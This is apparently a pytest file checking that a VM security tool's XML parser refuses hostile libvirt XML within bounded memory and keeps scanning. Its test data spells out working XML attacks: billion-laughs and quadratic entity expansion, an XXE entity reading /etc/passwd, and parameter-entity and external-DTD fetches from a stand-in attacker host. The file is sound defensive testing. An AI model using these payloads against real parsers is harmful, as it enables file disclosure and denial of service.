"""XML from a compromised host: every known trick is refused with a clear reason, in bounded memory,
and the xml collector goes on to the next file."""

from __future__ import annotations

import resource
import tracemalloc
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vmsec.collectors.xml import collect_xml
from vmsec.parsers.domain_xml import parse_domain
from vmsec.parsers.safexml import ENTITY_REASON, XmlError, parse_xml

GOOD = b"<domain type='kvm'><name>good</name><devices><graphics type='vnc' passwd='x'/></devices></domain>"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<domain><name>&lol9;</name></domain>"""

QUADRATIC = (b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "' + b"x" * 100_000 + b'">]><domain><name>'
             + b"&a;" * 50_000 + b"</name></domain>")

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE domain [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<domain><name>&xxe;</name></domain>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE domain [<!ENTITY % pe SYSTEM "http://attacker.invalid/evil.dtd"> %pe;]>
<domain><name>x</name></domain>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE domain SYSTEM "http://attacker.invalid/domain.dtd">
<domain><name>x</name></domain>"""

DEEP = b"<domain><name>deep</name>" + b"<a>" * 10_000 + b"</a>" * 10_000 + b"</domain>"
WIDE = b"<domain><name>wide</name>" + b"<a/>" * 250_000 + b"</domain>"
HUGE = b"<domain><name>huge</name><description>" + b"A" * (20 * 1024 * 1024) + b"</description></domain>"
GARBAGE = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 16  # the start of a binary, then noise
UTF16 = '<?xml version="1.0" encoding="UTF-16"?><domain><name>vm-é</name></domain>'.encode("utf-16")

REFUSED: list[tuple[str, bytes, str]] = [
    ("billion-laughs", BILLION_LAUGHS, ENTITY_REASON),
    ("quadratic-blowup", QUADRATIC, ENTITY_REASON),
    ("xxe-passwd", XXE, "external entity declarations are refused (entity 'xxe' points at "
                        "'file:///etc/passwd')"),
    ("parameter-entity", PARAMETER_ENTITY, "external entity declarations are refused (entity 'pe' "
                                           "points at 'http://attacker.invalid/evil.dtd')"),
    ("external-dtd", EXTERNAL_DTD, "external DTD references are refused (<!DOCTYPE domain names "
                                   "'http://attacker.invalid/domain.dtd'); nothing is fetched"),
    ("deep-nesting", DEEP, "elements are nested deeper than 256 levels"),
    ("wide", WIDE, "document has more than 200000 elements"),
    ("huge", HUGE, f"document is {len(HUGE)} bytes, over the 8 MiB limit"),
    ("garbage", GARBAGE, "not well-formed XML: line 1, column 1: not well-formed (invalid token)"),
    # An encoding expat cannot decode was a ValueError/LookupError that ended the whole scan.
    ("utf7-declared", b'<?xml version="1.0" encoding="UTF-7"?>' + GOOD,
     "cannot decode the document: multi-byte encodings are not supported"),
    ("shift-jis-declared", b'<?xml version="1.0" encoding="shift_jis"?>' + GOOD,
     "cannot decode the document: multi-byte encodings are not supported"),
    ("unknown-encoding", b'<?xml version="1.0" encoding="bogus"?>' + GOOD,
     "cannot decode the document: unknown encoding: bogus"),
    ("empty", b"", "empty document (no XML element)"),
    ("blank", b"  \n\t\n", "empty document (no XML element)"),
]


@pytest.mark.parametrize(("name", "data", "reason"), REFUSED, ids=[r[0] for r in REFUSED])
def test_refused_with_a_clear_reason_in_bounded_memory(name: str, data: bytes, reason: str) -> None:
    tracemalloc.start()
    try:
        with pytest.raises(XmlError) as err:
            parse_xml(data, f"/evil/{name}.xml")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert err.value.source == f"/evil/{name}.xml"
    assert err.value.reason == reason
    # Nothing expanded, no deep tree built: far below the size of any expansion.
    assert peak < 4 * 1024 * 1024, f"{name}: peak {peak} bytes"


@pytest.mark.parametrize(("name", "data", "reason"), REFUSED[:6], ids=[r[0] for r in REFUSED[:6]])
def test_refused_as_text_too(name: str, data: bytes, reason: str) -> None:
    with pytest.raises(XmlError) as err:
        parse_xml(data.decode("utf-8"), name)
    assert err.value.reason == reason


def test_utf16_document_is_legal_and_parsed() -> None:
    dom = parse_domain(UTF16, "utf16.xml")
    assert dom.name == "vm-é"


def test_latin1_declared_document_is_parsed() -> None:
    data = '<?xml version="1.0" encoding="ISO-8859-1"?><domain><name>café</name></domain>'.encode("latin-1")
    assert parse_domain(data, "latin1.xml").name == "café"


def test_internal_dtd_without_entities_is_legal() -> None:
    assert parse_domain(b"<!DOCTYPE domain [<!ELEMENT domain ANY>]><domain><name>d</name></domain>",
                        "dtd.xml").name == "d"


def test_deep_nesting_in_utf16_is_refused() -> None:
    # A non-UTF-8 encoding cannot slip past the cheap '<' count.
    data = ("<domain><name>d</name>" + "<a>" * 1000 + "</a>" * 1000 + "</domain>").encode("utf-16")
    with pytest.raises(XmlError) as err:
        parse_xml(data, "deep16.xml")
    assert err.value.reason == "elements are nested deeper than 256 levels"


def test_nesting_at_the_limit_is_accepted() -> None:
    data = b"<domain><name>d</name>" + b"<a>" * 254 + b"</a>" * 254 + b"</domain>"
    assert parse_xml(data, "ok.xml").tag == "domain"


def test_size_limit_is_a_parameter() -> None:
    with pytest.raises(XmlError) as err:
        parse_xml(GOOD, "small.xml", max_bytes=50)
    assert err.value.reason == f"document is {len(GOOD)} bytes, over the 50-byte limit"


def test_collector_goes_on_after_every_hostile_file(tmp_path: Path) -> None:
    for name, data, _ in REFUSED:
        (tmp_path / f"{name}.xml").write_bytes(data)
    (tmp_path / "utf16.xml").write_bytes(UTF16)
    (tmp_path / "zz-good.xml").write_bytes(GOOD)
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    tracemalloc.start()
    try:
        inv = collect_xml([str(tmp_path)])
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    grown_kib = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert sorted(d.name for d in inv.domains) == ["good", "vm-é"]
    failed = {Path(r.source).stem: r.reason for r in inv.errors}
    assert set(failed) == {name for name, _, _ in REFUSED}
    for name, _, reason in REFUSED:
        if name == "huge":  # refused by the reader from its size, before any byte is read
            assert failed[name] == f"file is {len(HUGE)} bytes, over the 8 MiB limit"
        else:
            assert failed[name] == reason
    assert all(r.what == "libvirt XML" for r in inv.records)
    # Only the wide file (1 MB) is ever held whole; nothing is expanded.
    assert peak < 16 * 1024 * 1024, peak
    assert grown_kib < 64 * 1024, grown_kib


@settings(max_examples=400, deadline=None)
@given(data=st.binary(max_size=300) | st.text(max_size=200).map(lambda t: f"<domain>{t}</domain>".encode()))
def test_arbitrary_bytes_give_a_tree_or_an_xml_error(data: bytes) -> None:
    try:
        root = parse_xml(data, "fuzz.xml")
    except XmlError as err:
        assert err.source == "fuzz.xml" and err.reason
    else:
        assert isinstance(root.tag, str)
